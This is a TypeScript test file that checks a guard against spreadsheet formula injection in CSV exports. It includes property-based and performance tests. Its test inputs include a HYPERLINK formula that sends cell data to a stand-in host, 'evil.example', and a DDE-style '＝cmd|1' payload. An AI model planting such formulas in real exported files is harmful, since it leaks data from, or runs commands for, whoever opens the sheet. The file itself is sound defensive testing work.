import * as fc from 'fast-check';
import { expect, it } from 'vitest';
import { sheetLine } from '../../../lib/evidence/csv.ts';
import { guardFormula } from '../../../lib/evidence/guard-formula.ts';
import { csvCells } from '../../../lib/watch/csv-row.ts';
import { startsFormula, unguarded } from './sheet-cells.ts';

it.each([
  ['=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝cmd|1', "'＝cmd|1"],
  ['＋1 －1', "'＋1 －1"],
  ['﹫x', "'﹫x"],
  ['−1', "'−1"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  ['\nx', "'\nx"],
  ['  =1', "'  =1"],
  ['\u00a0\u200b=1', "'\u00a0\u200b=1"],
  ['"=1"', '\'"=1"'],
  ['“=1', "'“=1"],
  // Cut at the semicolon, or at the line break, where that is what the system cuts at.
  ['a;=1;b', "a;'=1;b"],
  ['a\r\n=1', "a\r\n'=1"],
  ["a\r'\n=1", "a\r''\n'=1"],
  ['a\n"@x', 'a\n\'"@x'],
  // What was guarded before is guarded too, so that it comes out as it was.
  ["'=1", "''=1"],
  ["'\tx", "''\tx"],
])('takes the sting out of %j', (text, guarded) => {
  expect(guardFormula(text)).toBe(guarded);
  expect(unguarded(guarded)).toBe(text);
});

it.each([
  '',
  'plain',
  "'quoted'",
  'https://example.org/?a=b&c=-1',
  'a - b',
  'a, =b',
  '2026-11-23T19:40:12.345Z',
  '["one","two"]',
  '[withheld]',
  '该内容已被删除',
])('leaves %j as it is', (text) => {
  expect(guardFormula(text)).toBe(text);
});

const hostile = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({
    unit: fc.constantFrom(...'=+-@＝－\'";,\t\r\n a1\u200b\ufeff'.split('')),
    maxLength: 12,
  }),
);

it('can be taken back, and leaves no cell that starts a formula, wherever a spreadsheet cuts', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const guarded = guardFormula(text);
      expect(unguarded(guarded)).toBe(text);
      for (const cell of [guarded, ...guarded.split(/[;\t\r\n]/).filter((one) => one !== '')]) {
        expect(startsFormula(cell), JSON.stringify([text, cell])).toBe(false);
      }
    }),
    { numRuns: 5_000 },
  );
});

it('is done with a long text of nothing but tabs as fast as with any other', () => {
  const text = '\t'.repeat(200_000);
  expect(guardFormula(`${text}x`)).toHaveLength(200_002);
  expect(guardFormula(`${text}=`)).toHaveLength(400_002);
});

it('leaves numbers below zero numbers, and a text that looks like one a text', () => {
  expect(csvCells(sheetLine([-480, '-480', 'x']).trimEnd())).toEqual(['-480', "'-480", 'x']);
});
